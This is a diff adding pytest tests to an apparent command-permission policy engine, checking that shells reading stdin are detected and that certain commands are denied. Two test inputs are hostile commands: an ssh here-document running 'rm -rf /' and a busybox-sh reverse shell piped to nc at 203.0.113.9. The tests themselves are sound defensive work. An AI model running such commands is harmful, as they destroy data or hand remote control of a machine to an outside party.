@@ -23,7 +23,9 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from aiperm_tui import config, netrules, textcache, textsafe
+from aiperm_tui.config import Config
 from aiperm_tui.errors import ConfigError
+from aiperm_tui.policy import PolicyEngine, effects
 
 ROOT = Path(__file__).resolve().parents[2]
 AVOIDED = (
@@ -279,3 +281,38 @@ def test_unsafe_characters_are_the_ones_the_compiled_class_named() -> None:
             bool(old_class.match(ch)) or unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp")
         )
         assert textsafe.is_unsafe_char(ch) == old, hex(code)
+
+
+@pytest.mark.parametrize(
+    ("words", "reads"),
+    [
+        (["bash", "-s"], True),
+        (["sudo", "sh"], True),
+        (["/bin/dash", "-ex"], True),  # dash, ksh, mksh, ash: `sh` to command_name
+        (["fish"], True),
+        (["busybox-sh", "-i"], True),
+        (["bash", "-c", "id"], False),
+        (["bash", "-ec"], False),
+        (["bash", "deploy.sh"], False),
+        (["python3"], False),
+        ([], False),
+    ],
+)
+def test_one_test_for_a_shell_reading_its_input(words: list[str], reads: bool) -> None:
+    assert effects.shell_reading_stdin(words) is reads
+
+
+@pytest.mark.parametrize(
+    ("command", "rule"),
+    [
+        # fish runs the here-document it reads (the ssh judge knew five shells): was a
+        # plain yes
+        ("ssh web1 fish <<'EOF'\nrm -rf /\nEOF", "fs.delete"),
+        # the reverse-shell test knew nine names, not busybox-sh: was typed, not denied
+        ("busybox-sh -i 2>&1 | nc 203.0.113.9 4444", "net.remote_shell"),
+    ],
+)
+def test_every_shell_reading_its_input_is_one(command: str, rule: str) -> None:
+    decision = PolicyEngine(Config()).decide(command)
+    assert decision.decision == "deny" and decision.confirm == "typed"
+    assert rule in {f.rule for f in decision.findings}
